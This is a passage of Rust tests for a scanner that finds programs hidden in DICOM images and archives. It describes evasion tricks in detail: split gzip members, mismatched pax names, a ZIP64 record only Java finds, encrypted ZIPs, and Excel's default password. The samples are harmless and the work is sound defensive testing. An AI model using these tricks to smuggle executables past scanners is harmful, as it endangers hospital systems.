            !alerts(&inspection).is_empty(),
            runs,
            "{name}: {:#?}",
            inspection.observations
        );
    }
}

/// Session 5: a `.pyc` inside an element was not searched for (only a whole-file one was
/// sniffed). One compiled by the real python3, put in a private OB element, is found;
/// the same bytes with their code object marker changed are not.
#[test]
fn compiled_python_in_an_element_is_found() {
    let dir = TempDir::new();
    std::fs::write(dir.path("hello.py"), b"print('RAN')\n").expect("write");
    run("python3", &["-m", "py_compile", "hello.py"], &dir.0);
    let pyc_path = std::fs::read_dir(dir.path("__pycache__"))
        .expect("pycache")
        .next()
        .expect("pyc")
        .expect("entry")
        .path();
    let pyc = std::fs::read(&pyc_path).expect("pyc");
    let mut value = b"vendor blob ".to_vec();
    value.extend_from_slice(&pyc);
    let dicom = kit::DicomBuilder::ct("1.2.3.5")
        .element(0x0009, 0x1010, *b"OB", &value)
        .build();
    let inspection = inspect(&dicom);
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.severity == Severity::Alert && o.format == Some(Format::PythonBytecode)),
        "{:#?}",
        inspection.observations
    );
    let mut broken = value.clone();
    broken[12 + 16] = b'x';
    let dicom = kit::DicomBuilder::ct("1.2.3.5")
        .element(0x0009, 0x1010, *b"OB", &broken)
        .build();
    assert!(
        alerts(&inspect(&dicom)).is_empty(),
        "{:#?}",
        inspect(&dicom).observations
    );
}

/// `value` in a private OB element of a real CT image, before its Pixel Data.
fn in_private_element(value: &[u8]) -> Vec<u8> {
    let dicom = kit::pydicom_sample("CT_small.dcm");
    let pixels = (0..dicom.len() - 6)
        .rev()
        .find(|&at| {
            dicom[at..at + 4] == [0xE0, 0x7F, 0x10, 0x00]
                && matches!(&dicom[at + 4..at + 6], b"OB" | b"OW")
        })
        .expect("CT_small has explicit VR Pixel Data");
    let mut file = dicom[..pixels].to_vec();
    kit::write_element(&mut file, (0x7FDF, 0x0010), *b"LO", b"VENDOR ARCHIVE");
    kit::write_element(&mut file, (0x7FDF, 0x1000), *b"OB", value);
    file.extend_from_slice(&dicom[pixels..]);
    file
}

/// False alarm (review s6-r10): a ZIP of reports inside a tar was an alert
/// (`archive::member_verdict` took any ZIP for a program), as was a gzip of text in a tar.
/// A member is judged as the same file on its own is: a ZIP of text and XML, in a tar, a
/// .tgz, a ZIP or a DICOM element, is no alert; a JAR (`java -jar` runs it) or a ZIP with
/// a program in the same places is. Archives written by the real zip, tar and gzip.
#[test]
fn inert_zips_and_gzips_inside_archives_are_no_alert() {
    let dir = TempDir::new();
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    std::fs::write(
        dir.path("report.xml"),
        b"<?xml version=\"1.0\"?><r>ok</r>\n",
    )
    .expect("write");
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    std::fs::create_dir_all(dir.path("META-INF")).expect("mkdir");
    std::fs::write(
        dir.path("META-INF/MANIFEST.MF"),
        b"Manifest-Version: 1.0\nMain-Class: Hello\n",
    )
    .expect("write");
    run(
        "zip",
        &["-q", "reports.zip", "notes.txt", "report.xml"],
        &dir.0,
    );
    run(
        "zip",
        &["-q", "prog.zip", "notes.txt", "launcher.exe"],
        &dir.0,
    );
    run("zip", &["-q", "app.jar", "META-INF/MANIFEST.MF"], &dir.0);
    run("gzip", &["-k", "notes.txt"], &dir.0);
    run("tar", &["cf", "reports.tar", "reports.zip"], &dir.0);
    run("tar", &["czf", "reports.tgz", "reports.zip"], &dir.0);
    run("tar", &["cf", "gz.tar", "notes.txt.gz"], &dir.0);
    run("zip", &["-q", "zz.zip", "reports.zip"], &dir.0);
    run("tar", &["cf", "jar.tar", "app.jar"], &dir.0);
    run("tar", &["czf", "prog.tgz", "prog.zip"], &dir.0);
    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");
    for name in ["reports.tar", "reports.tgz", "gz.tar", "zz.zip"] {
        let inspection = inspect(&read(name));
        assert!(
            alerts(&inspection).is_empty(),
            "{name}: {:#?}",
            inspection.observations
        );
        let planted = inspect(&in_private_element(&read(name)));
        assert!(
            alerts(&planted).is_empty(),
            "{name} in an element: {:#?}",
            planted.observations
        );
    }
    for name in ["jar.tar", "prog.tgz"] {
        let inspection = inspect(&read(name));
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {:#?}",
            inspection.observations
        );
        let planted = inspect(&in_private_element(&read(name)));
        assert!(
            has_alert(&planted, FindingKind::EmbeddedExecutable),
            "{name} in an element: {:#?}",
            planted.observations
        );
    }
}

/// Missed program (review s6-r10): in a ZIP's tar entry, an HTML page ended the walk of
/// the tar, and a member the ZIP walk could not tell (an archive nested past
/// MAX_ARCHIVE_DEPTH) ended the walk of the ZIP: a program after either was never looked
/// at. Every member is now looked at; the one that cannot be told is a warning only when
/// nothing runs. Written by the real tar, gzip and zip, in the order given.
#[test]
fn no_member_ends_the_walk_of_the_others() {
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    std::fs::write(
        dir.path("changelog.html"),
        b"<html><body><p>1.2: fixes</p></body></html>\n",
    )
    .expect("write");
    run(
        "tar",
        &["cf", "page_then_prog.tar", "changelog.html", "launcher.exe"],
        &dir.0,
    );
    run("zip", &["-q", "page.zip", "page_then_prog.tar"], &dir.0);
    // notes.txt four archives deep: past MAX_ARCHIVE_DEPTH inside the ZIP.
    run("tar", &["czf", "n1.tgz", "notes.txt"], &dir.0);
    run("tar", &["cf", "n2.tar", "n1.tgz"], &dir.0);
    run("tar", &["czf", "n3.tgz", "n2.tar"], &dir.0);
    run("tar", &["cf", "deep.tar", "n3.tgz"], &dir.0);
    run(
        "zip",
        &["-q", "deep_then_prog.zip", "deep.tar", "launcher.exe"],
        &dir.0,
    );
    run("zip", &["-q", "deep.zip", "deep.tar"], &dir.0);
    let read = |name: &str| inspect(&std::fs::read(dir.path(name)).expect("read"));
    for name in ["page.zip", "deep_then_prog.zip"] {
        let inspection = read(name);
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {:#?}",
            inspection.observations
        );
    }
    let deep = read("deep.zip");
    assert!(alerts(&deep).is_empty(), "{:#?}", deep.observations);
    assert!(
        deep.observations
            .iter()
            .any(|o| o.severity == Severity::Warning && o.detail.contains("MAX_ARCHIVE_DEPTH")),
        "{:#?}",
        deep.observations
    );
}

/// Missed program (review s6-r10): Excel 4.0 (XLM) macros were not detected. A workbook
/// with a macro sheet (an `.xls` whose BIFF8 `Workbook` stream declares one, an `.xlsm`
/// with a macro sheet part, under its usual name or only by its declared content type) is
/// an alert, on its own, inside a ZIP or a tar and in a DICOM element, whether the
/// `Workbook` stream is in
/// regular sectors or in the mini stream, and behind a decoy `Book` stream listed first;
/// the same workbooks without a macro
/// sheet are not. Files laid out by tests/excel.py as Excel writes them; where oletools
/// is installed (scripts/setup-test-deps.sh), olevba, the reference detector, confirms
/// the `.xls` verdicts first.
#[test]
fn excel_4_macro_sheets_are_alerts_and_plain_workbooks_are_not() {
    let dir = TempDir::new();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/excel.py");
    run("python3", &[script.to_str().expect("utf-8"), "."], &dir.0);
    let tools = kit::testdata().join("pytools");
    if tools.join("oletools").is_dir() {
        for (name, xlm) in [
            ("xlm.xls", true),
            ("mini.xls", true),
            ("decoy.xls", true),
            ("plain.xls", false),
            ("plain_mini.xls", false),
        ] {
            let out = Command::new("python3")
                .args(["-m", "oletools.olevba", name])
                .env("PYTHONPATH", &tools)
                .current_dir(&dir.0)
                .output()
                .expect("olevba");
            let report = String::from_utf8_lossy(&out.stdout);
            assert_eq!(
                report.contains("XLM macro found"),
                xlm,
                "olevba on {name}: {report}"
            );
        }
    }
    run("zip", &["-q", "xls.zip", "xlm.xls"], &dir.0);
    run("tar", &["cf", "xls.tar", "xlm.xls"], &dir.0);
    run(
        "zip",
        &["-q", "plain.zip", "plain.xls", "plain.xlsx"],
        &dir.0,
    );
    run(
        "tar",
        &["cf", "plain.tar", "plain.xls", "plain.xlsx"],
        &dir.0,
    );
    let read = |name: &str| inspect(&std::fs::read(dir.path(name)).expect("read"));
    for name in [
        "xlm.xls",
        "mini.xls",
        "decoy.xls",
        "xlm.xlsm",
        "renamed.xlsm",
        "xls.zip",
        "xls.tar",
    ] {
        let inspection = read(name);
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {:#?}",
            inspection.observations
        );
    }
    // In a DICOM element, as the workbook a viewer's export would extract.
    let bytes = |name: &str| std::fs::read(dir.path(name)).expect("read");
    for name in ["xlm.xls", "mini.xls", "xlm.xlsm"] {
        let planted = inspect(&in_private_element(&bytes(name)));
        assert!(
            has_alert(&planted, FindingKind::EmbeddedExecutable),
            "{name} in an element: {:#?}",
            planted.observations
        );
    }
    for name in ["plain.xls", "plain.xlsx"] {
        let planted = inspect(&in_private_element(&bytes(name)));
        assert!(
            alerts(&planted).is_empty(),
            "{name} in an element: {:#?}",
            planted.observations
        );
    }
    // Encrypted (FILEPASS), the sheet types cannot be read: a warning saying so.
    let encrypted = read("encrypted.xls");
    assert!(
        alerts(&encrypted).is_empty(),
        "{:#?}",
        encrypted.observations
    );
    assert!(
        encrypted
            .observations
            .iter()
            .any(|o| o.severity == Severity::Warning && o.detail.contains("FILEPASS")),
        "{:#?}",
        encrypted.observations
    );
    let sheet = read("xlm.xls");
    assert!(
        alerts(&sheet).iter().any(|a| a.contains("Excel 4.0")),
        "{:#?}",
        sheet.observations
    );
    for name in [
        "plain.xls",
        "plain_mini.xls",
        "plain.xlsx",
        "plain.zip",
        "plain.tar",
    ] {
        let inspection = read(name);
        assert!(
            alerts(&inspection).is_empty(),
            "{name}: {:#?}",
            inspection.observations
        );
    }
}

/// Review finding (s7-r10): three ways `tar x` / `tar xz` extract a member the archive walk
/// never saw or saw under another name. Each archive is written by the real gzip, tar or
/// python3 and extracted by GNU tar first, which proves the program lands on disk:
/// - a .tgz whose tar continues in a second gzip member (`gzip -d` writes members one after
///   the other; only the first was inflated, the tar ended early and was "inert");
/// - a damaged header between members (GNU tar says "Skipping to next header" and
///   extracts the next one; the walk stopped there);
/// - a pax extended header whose `path` names the member `run.vbs` while the ustar header
///   says `notes.txt` (the name tar extracts under is the pax one).
#[test]
fn members_tar_extracts_past_gzip_members_damaged_headers_and_pax_names_are_screened() {
    let dir = TempDir::new();
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    run(
        "tar",
        &["cf", "both.tar", "notes.txt", "launcher.exe"],
        &dir.0,
    );
    let tar = std::fs::read(dir.path("both.tar")).expect("read");
    let gzip = |bytes: &[u8]| {
        let mut child = Command::new("gzip")
            .arg("-c")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("gzip");
        let mut stdin = child.stdin.take().expect("stdin");
        let owned = bytes.to_vec();
        let writer = std::thread::spawn(move || {
            use std::io::Write;
            stdin.write_all(&owned).expect("to gzip");
        });
        let out = child.wait_with_output().expect("gzip output");
        writer.join().expect("writer");
        out.stdout
    };
    // The first member ends inside the tar: after notes.txt's header.
    let mut split = gzip(&tar[..512]);
    split.extend(gzip(&tar[512..]));
    // A block of garbage where the second member's header would be read.
    let mut damaged = tar[..1024].to_vec();
    damaged.extend([b'A'; 512]);
    damaged.extend(&tar[1024..]);
    let damaged = gzip(&damaged);
    let script = "import io, tarfile\n\
        data = b'WScript.Echo \"RAN\"\\r\\n'\n\
        info = tarfile.TarInfo('notes.txt'); info.size = len(data)\n\
        info.pax_headers = {'path': 'run.vbs'}\n\
        with tarfile.open('pax.tar', 'w', format=tarfile.PAX_FORMAT) as tar:\n    \
        tar.addfile(info, io.BytesIO(data))\n";
    run("python3", &["-c", script], &dir.0);
    let pax = std::fs::read(dir.path("pax.tar")).expect("read");
    for (name, bytes, lands) in [
        ("split.tgz", split, "launcher.exe"),
        ("damaged.tgz", damaged, "launcher.exe"),
        ("pax.tar", pax, "run.vbs"),
    ] {
        let out = TempDir::new();
        std::fs::write(out.path(name), &bytes).expect("write");
        // Exit status 2 for the damaged header, the member extracted all the same.
        let _ = Command::new("tar")
            .args(["xf", name])
            .current_dir(&out.0)
            .status()
            .expect("tar");
        assert!(out.path(lands).exists(), "{name}: GNU tar extracts {lands}");
        let inspection = inspect(&bytes);
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {:#?}",
            inspection.observations
        );
        let dicom = kit::DicomBuilder::ct("1.2.3.43")
            .element(0x0009, 0x1010, *b"OB", &bytes)
            .build();
        let inspection = inspect(&dicom);
        assert!(
            has_alert(&inspection, FindingKind::EmbeddedExecutable),
            "{name} in an element: {:#?}",
            inspection.observations
        );
    }
}

/// Review finding (s7-r10): Java finds a ZIP64 end record at the offset its locator gives;
/// Python (and the walk) only right before the locator. With padding between the two,
/// `java -jar` ran a JAR (alone, or appended to a CT) that the walk called "no central
/// directory found" (a warning; after a DICOM file, only malformed-dicom). Every
/// directory some reader finds is judged now. The JAR is written by tests/zip64_java.py
/// around a class javac compiled, and run by java first.
#[test]
fn a_jar_whose_zip64_record_only_java_finds_is_judged_as_java_reads_it() {
    let dir = TempDir::new();
    std::fs::write(
        dir.path("Main.java"),
        "public class Main { public static void main(String[] a) { System.out.println(\"RAN\"); } }\n",
    )
    .expect("write");
    run("javac", &["Main.java"], &dir.0);
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/zip64_java.py");
    let ct = kit::DicomBuilder::ct("1.2.3.44").build();
    std::fs::write(dir.path("ct.dcm"), &ct).expect("write");
    run("python3", &[script, "alone.jar"], &dir.0);
    run("python3", &[script, "appended.dcm", "ct.dcm"], &dir.0);
    for name in ["alone.jar", "appended.dcm"] {
        let ran = Command::new("java")
            .args(["-jar", name])
            .current_dir(&dir.0)
            .output()
            .expect("java");
        assert!(
            String::from_utf8_lossy(&ran.stdout).contains("RAN"),
            "{name}: java -jar runs it: {}",
            String::from_utf8_lossy(&ran.stderr)
        );
        let inspection = inspect(&std::fs::read(dir.path(name)).expect("read"));
        let kind = if name == "alone.jar" {
            FindingKind::ExecutableFile
        } else {
            FindingKind::EmbeddedExecutable
        };
        assert!(
            has_alert(&inspection, kind),
            "{name}: {:#?}",
            inspection.observations
        );
    }
}

/// Review finding (s7-r10): an encrypted ZIP entry was judged by its ciphertext, so a ZIP
/// (written by `zip -P`) holding a program under a harmless name, in an element of a CT,
/// was info "none of whose entries runs" (exit 0): whoever has the password mailed beside
/// it extracts the program. What cannot be read is a warning; `unzip -P` proves the
/// program is there.
#[test]
fn an_encrypted_zip_entry_is_not_judged_inert() {
    let dir = TempDir::new();
    std::fs::write(dir.path("notes.dat"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("report.txt"), b"report text\n").expect("write");
    run(
        "zip",
        &["-q", "-P", "infected", "enc.zip", "notes.dat", "report.txt"],
        &dir.0,
    );
    let out = TempDir::new();
    let zip = dir.path("enc.zip");
    run(
        "unzip",
        &["-q", "-P", "infected", zip.to_str().expect("path")],
        &out.0,
    );
    assert_eq!(
        std::fs::read(out.path("notes.dat")).expect("extracted"),
        kit::real_pe()
    );
    let bytes = std::fs::read(&zip).expect("read");
    let dicom = kit::DicomBuilder::ct("1.2.3.45")
        .element(0x0009, 0x1010, *b"OB", &bytes)
        .build();
    for (what, inspection) in [
        ("in an element", inspect(&dicom)),
        ("alone", inspect(&bytes)),
    ] {
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Warning && o.detail.contains("could not be read")),
            "{what}: {:#?}",
            inspection.observations
        );
    }
}

/// Review finding (s7-r10): a compound file's header repeats the mini stream cutoff the
/// specification fixes at 4096. With 0 there, the small Workbook stream of an .xls was read
/// through the FAT (garbage: "no macros") while olevba, which takes the header's value
/// where it can, still reads its Excel 4.0 macro sheet from the mini stream. Both readings
/// are judged. olevba confirms the case where it is installed.
#[test]
fn a_mini_stream_cutoff_other_than_the_specified_one_does_not_hide_a_macro_sheet() {
    let dir = TempDir::new();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/excel.py");
    run("python3", &[script.to_str().expect("utf-8"), "."], &dir.0);
    for (name, xlm) in [("mini.xls", true), ("plain_mini.xls", false)] {
        let mut bytes = std::fs::read(dir.path(name)).expect("read");
        bytes[0x38..0x3C].copy_from_slice(&0u32.to_le_bytes());
        let patched = format!("cut0-{name}");
        std::fs::write(dir.path(&patched), &bytes).expect("write");
        let tools = kit::testdata().join("pytools");
        if tools.join("oletools").is_dir() {
            let out = Command::new("python3")
                .args(["-m", "oletools.olevba", &patched])
                .env("PYTHONPATH", &tools)
                .current_dir(&dir.0)
                .output()
                .expect("olevba");
            let report = String::from_utf8_lossy(&out.stdout);
            assert_eq!(
                report.contains("XLM macro found"),
                xlm,
                "olevba on {patched}"
            );
        }
        let inspection = inspect(&bytes);
        assert_eq!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            xlm,
            "{patched}: {:#?}",
            inspection.observations
        );
    }
}

/// MAX_ARCHIVE_MEMBERS counts gzip members (review s7-r10): every member of a gzip file is
/// inflated onto the first, as `gzip -d` does, and 400,000 empty 20-byte members took
/// minutes before they were counted. A tar split across a first and a last member, with
/// empty members (the real gzip's) between: up to the limit it is opened to the PE in it,
/// past it the opening stops and says so.
#[test]
fn gzip_members_at_the_limit_are_inflated_and_past_it_are_a_warning() {
    use pacsguard_dicom::MAX_ARCHIVE_MEMBERS;
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    run("tar", &["cf", "one.tar", "launcher.exe"], &dir.0);
    let tar = std::fs::read(dir.path("one.tar")).expect("read");
    let gzip = |bytes: &[u8]| {
        std::fs::write(dir.path("in"), bytes).expect("write");
        Command::new("gzip")
            .arg("-c")
            .arg(dir.path("in"))
            .output()
            .expect("gzip")
            .stdout
    };
    let (first, last, empty) = (gzip(&tar[..512]), gzip(&tar[512..]), gzip(b""));
    let file = |empties: usize| {
        let mut file = first.clone();
        for _ in 0..empties {
            file.extend(&empty);
        }
        file.extend(&last);
        file
    };
    // The members after the first, and the tar's one member, take the whole limit.
    let at_limit = file(MAX_ARCHIVE_MEMBERS - 2);
    let ran = Command::new("tar")
        .args(["tzf", "-"])
        .stdin(
            std::fs::File::open({
                std::fs::write(dir.path("at.tgz"), &at_limit).expect("write");
                dir.path("at.tgz")
            })
            .expect("open"),
        )
        .output()
        .expect("tar");
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "launcher.exe\n");
    assert_opens_to_what_it_carries(&at_limit);
    assert_stops_at_limit(&file(MAX_ARCHIVE_MEMBERS), "MAX_ARCHIVE_MEMBERS");
}

/// MAX_ARCHIVE_MEMBERS counts damaged tar blocks skipped (review s7-r10): the walk goes on
/// past a damaged header as GNU tar does, and a file of headers among garbage cost each
/// of its tar candidates a walk to its end (8 MB: 10 s). A real tar with damaged blocks
/// between its two members: up to the limit the PE after them is found (GNU tar extracts
/// it), past it the walk stops and says so.
#[test]
fn damaged_tar_blocks_at_the_limit_are_skipped_and_past_it_are_a_warning() {
    use pacsguard_dicom::MAX_ARCHIVE_MEMBERS;
    let dir = TempDir::new();
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    run(
        "tar",
        &["cf", "both.tar", "notes.txt", "launcher.exe"],
        &dir.0,
    );
    let tar = std::fs::read(dir.path("both.tar")).expect("read");
    let file = |damaged: usize| {
        let mut file = tar[..1024].to_vec();
        file.extend(std::iter::repeat_n(b'A', 512 * damaged));
        file.extend(&tar[1024..]);
        file
    };
    // notes.txt, the damaged blocks and launcher.exe take the whole limit.
    let at_limit = file(MAX_ARCHIVE_MEMBERS - 2);
    std::fs::write(dir.path("at.tar"), &at_limit).expect("write");
    let out = TempDir::new();
    let _ = Command::new("tar")
        .args(["xf", dir.path("at.tar").to_str().expect("path")])
        .current_dir(&out.0)
        .status()
        .expect("tar");
    assert!(out.path("launcher.exe").exists(), "GNU tar extracts it");
    assert_opens_to_what_it_carries(&at_limit);
    assert_stops_at_limit(&file(MAX_ARCHIVE_MEMBERS - 1), "MAX_ARCHIVE_MEMBERS");
}

/// One warning per file of many gzip members, not one per member (issue 10, session 7's
/// "Open"): every gzip start in a multi-member file was opened as an archive of its own
/// and walked every member after it, so each of the first 33 starts of a file of
/// MAX_ARCHIVE_MEMBERS + 33 members met the member limit and said so (33 `not-inspected`
/// warnings, and a walk per member). The members are the real gzip's (`gzip -c a > f;
/// gzip -c b >> f; ...`), in a private element and appended to the file; a program alone
/// in a member after the text (which `gzip -d` writes after the text) is still an alert.
#[test]
fn a_file_of_many_gzip_members_gives_one_warning_naming_the_limit() {
    use pacsguard_dicom::MAX_ARCHIVE_MEMBERS;
    let dir = TempDir::new();
    let texts = [
        &b"Study report: no acute findings.\n"[..],
        b"Technologist notes: patient moved during series 3.\n",
        b"",
    ];
    let mut members = Vec::new();
    for (n, text) in texts.iter().enumerate() {
        let name = format!("part{n}.txt");
        std::fs::write(dir.path(&name), text).expect("write");
        let out = Command::new("gzip")
            .args(["-c", &name])
            .current_dir(&dir.0)
            .output()
            .expect("gzip");
        assert!(out.status.success());
        members.push(out.stdout);
    }
    let multi = |count: usize| {
        let mut file = Vec::new();
        for n in 0..count {
            file.extend(&members[n % members.len()]);
        }
        file
    };
    // The real gzip reads it as one stream of every member's text.
    let past = multi(MAX_ARCHIVE_MEMBERS + 33);
    std::fs::write(dir.path("many.gz"), &past).expect("write");
    let unpacked = Command::new("gzip")
        .args(["-dc", "many.gz"])
        .current_dir(&dir.0)
        .output()
        .expect("gzip -d");
    assert!(unpacked.status.success());
    assert!(unpacked.stdout.starts_with(texts[0]));
    let limits = |inspection: &Inspection| {
        inspection
            .observations
            .iter()
            .filter(|o| o.kind == FindingKind::NotInspected && o.severity == Severity::Warning)
            .map(|o| o.detail.clone())
            .collect::<Vec<_>>()
    };
    let ct = kit::pydicom_sample("CT_small.dcm");
    let mut appended = ct.clone();
    appended.extend(&past);
    for (place, file) in [
        ("element", in_private_element(&past)),
        ("appended", appended),
    ] {
        let inspection = inspect(&file);
        let warnings = limits(&inspection);
        assert_eq!(warnings.len(), 1, "{place}: {warnings:#?}");
        assert!(
            warnings[0].contains("MAX_ARCHIVE_MEMBERS"),
            "{place}: {warnings:?}"
        );
    }
    // Under the limit: the members are text, opened once, nothing to say.
    let under = multi(40);
    let mut appended = ct.clone();
    appended.extend(&under);
    for (place, file) in [
        ("element", in_private_element(&under)),
        ("appended", appended),
    ] {
        let inspection = inspect(&file);
        assert_eq!(limits(&inspection), Vec::<String>::new(), "{place}");
        assert!(
            !has_alert(&inspection, FindingKind::EmbeddedExecutable),
            "{place}"
        );
    }
    // A program in a member of its own past the limit is still found from its own start.
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    let pe = Command::new("gzip")
        .args(["-c", "launcher.exe"])
        .current_dir(&dir.0)
        .output()
        .expect("gzip")
        .stdout;
    let mut with_pe = past.clone();
    with_pe.extend(&pe);
    let inspection = inspect(&in_private_element(&with_pe));
    assert!(
        has_alert(&inspection, FindingKind::EmbeddedExecutable),
        "{:#?}",
        inspection.observations
    );
    assert_eq!(
        limits(&inspection).len(),
        1,
        "{:#?}",
        inspection.observations
    );
}

/// Issue 10 (session 7's "Open"): an `.xls` encrypted with Excel's default password
/// ("VelvetSweatshop") opens in Excel without a prompt, and its macro sheet runs; it was
/// only "encrypted" (a warning). Now decrypted as Excel does, in both RC4 schemes of a
/// FILEPASS record (RC4 1.1 with MD5; RC4 CryptoAPI with SHA-1, 128- and 40-bit keys) and
/// XOR obfuscation (method 1; session 9: it was the warning; no tool here writes it, so
/// tests/excel.py obfuscates per [MS-OFFCRYPTO] 2.3.7 and msoffcrypto-tool, through
/// olevba, decrypts it to the macro sheet), and
/// screened: a macro sheet is an alert, alone and in a DICOM element; a workbook without
/// one is none; one encrypted with another password stays the warning. tests/excel.py
/// encrypts the workbooks as [MS-XLS] 2.2.10 describes, over three 1024-byte blocks; where
/// oletools and msoffcrypto-tool are installed (scripts/setup-test-deps.sh), olevba, which
/// tries Excel's default password through msoffcrypto-tool, confirms each verdict first,
/// and msoffcrypto-tool confirms the other password opens the other files.
#[test]
fn workbooks_encrypted_with_excels_default_password_are_decrypted_and_screened() {
    let dir = TempDir::new();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/excel.py");
    run("python3", &[script.to_str().expect("utf-8"), "."], &dir.0);
    let runs = [
        "velvet_rc4.xls",
        "velvet_cryptoapi.xls",
        "velvet_cryptoapi40.xls",
        "velvet_xor.xls",
    ];
    let other = ["other_rc4.xls", "other_cryptoapi.xls", "other_xor.xls"];
    let plain = ["velvet_plain.xls", "velvet_xor_plain.xls"];
    let tools = kit::testdata().join("pytools");
    if tools.join("oletools").is_dir() && tools.join("msoffcrypto").is_dir() {
        let olevba = |name: &str| {
            let out = Command::new("python3")
                .args(["-m", "oletools.olevba", name])
                .env("PYTHONPATH", &tools)
                .current_dir(&dir.0)
                .output()
                .expect("olevba");
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr)
        };
        // olevba 0.60.2 decrypts an XOR-obfuscated workbook but then reports no macros
        // in it; on what msoffcrypto-tool decrypts it to, it finds the macro sheet.
        let decrypted = |name: &str| {
            if !name.contains("xor") {
                return name.to_owned();
            }
            let out = format!("{name}.decrypted");
            let status = Command::new("python3")
                .args([
                    "-c",
                    "import msoffcrypto, sys\n\
                     f = msoffcrypto.OfficeFile(open(sys.argv[1], 'rb'))\n\
                     f.load_key(password='VelvetSweatshop')\n\
                     f.decrypt(open(sys.argv[2], 'wb'))",
                    name,
                    &out,
                ])
                .env("PYTHONPATH", &tools)
                .current_dir(&dir.0)
                .status()
                .expect("msoffcrypto");
            assert!(status.success(), "msoffcrypto-tool on {name}");
            out
        };
        for name in runs {
            let report = olevba(&decrypted(name));
            assert!(
                report.contains("XLM macro found"),
                "olevba on {name}: {report}"
            );
        }
        for name in plain {
            let report = olevba(&decrypted(name));
            assert!(!report.contains("XLM macro found"), "{name}: {report}");
        }
        for name in other {
            let report = olevba(name);
            assert!(
                report.contains("could not decrypt"),
                "olevba on {name}: {report}"
            );
            let opened = Command::new("python3")
                .args([
                    "-c",
                    "import msoffcrypto, sys, io\n\
                     f = msoffcrypto.OfficeFile(open(sys.argv[1], 'rb'))\n\
                     f.load_key(password='hospital2024')\n\
                     f.decrypt(io.BytesIO())",
                    name,
                ])
                .env("PYTHONPATH", &tools)
                .current_dir(&dir.0)
                .status()
                .expect("msoffcrypto");
            assert!(opened.success(), "msoffcrypto-tool on {name}");
        }
    }
    let bytes = |name: &str| std::fs::read(dir.path(name)).expect("read");
    for name in runs {
        for (place, inspection) in [
            ("alone", inspect(&bytes(name))),
            ("in an element", inspect(&in_private_element(&bytes(name)))),
        ] {
            let alerts = alerts(&inspection);
            assert!(
                alerts
                    .iter()
                    .any(|a| a.contains("Excel 4.0") && a.contains("default password")),
                "{name} {place}: {:#?}",
                inspection.observations
            );
        }
    }
    for name in plain {
        let plain = inspect(&in_private_element(&bytes(name)));
        assert!(
            alerts(&plain).is_empty(),
            "{name}: {:#?}",
            plain.observations
        );
        assert!(
            !plain
                .observations
                .iter()
                .any(|o| o.detail.contains("FILEPASS")),
            "{name}: {:#?}",
            plain.observations
        );
    }
    for name in other {
        let inspection = inspect(&in_private_element(&bytes(name)));
        assert!(
            alerts(&inspection).is_empty(),
            "{name}: {:#?}",
            inspection.observations
        );
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Warning
                    && o.detail.contains("FILEPASS")
                    && o.detail.contains("other than Excel's default")),
            "{name}: {:#?}",
            inspection.observations
        );
    }
}

/// Review s8-r10: the search skipped every gzip or tar start inside the bytes an earlier
/// archive walk "went through", though the walk judged a member by its first bytes only.
/// A gzip of a program after text in a tar member (GNU tar's own), or after one 512-byte
/// tar header claiming an 8 GiB member (the walk took the rest of the element for that
/// member), or inside a gzip member stored verbatim (deflate level 0, python3's zlib), was
/// silence; `dd`/`tail -c +N | gunzip` delivers the program. Only the starts the walk
/// read from themselves (its later gzip members, its tar headers) are skipped: a file of
/// many members still gives one warning (the test above).
#[test]
fn a_gzip_inside_the_bytes_of_an_earlier_archive_walk_is_still_opened() {
    let dir = TempDir::new();
    let text = b"Study report: no acute findings.\n".repeat(20);
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    let gz_pe = Command::new("gzip")
        .args(["-c", "-n", "launcher.exe"])
        .current_dir(&dir.0)
        .output()
        .expect("gzip")
        .stdout;
    let mut notes = text.clone();
    notes.extend(&gz_pe);
    notes.extend(&text);
    std::fs::write(dir.path("notes.txt"), &notes).expect("write");
    run(
        "tar",
        &["--format=ustar", "-cf", "notes.tar", "notes.txt"],
        &dir.0,
    );
    let tar = std::fs::read(dir.path("notes.tar")).expect("read");
    // The real gzip finds the program from the start of its gzip: the bytes a dropper
    // carves out.
    let at = tar
        .windows(gz_pe.len())
        .position(|w| w == gz_pe.as_slice())
        .expect("the gzip is in the tar member");
    std::fs::write(dir.path("carved.gz"), &tar[at..]).expect("write");
    let carved = Command::new("sh")
        .args(["-c", "gzip -dc carved.gz 2>/dev/null"])
        .current_dir(&dir.0)
        .output()
        .expect("gzip -d");
    assert!(carved.stdout.starts_with(b"MZ"));
    // The same tar header, its size field claiming 8 GiB (checksum recomputed).
    let mut huge = tar[..512].to_vec();
    huge[124..136].copy_from_slice(b"77777777777\0");
    huge[148..156].copy_from_slice(b"        ");
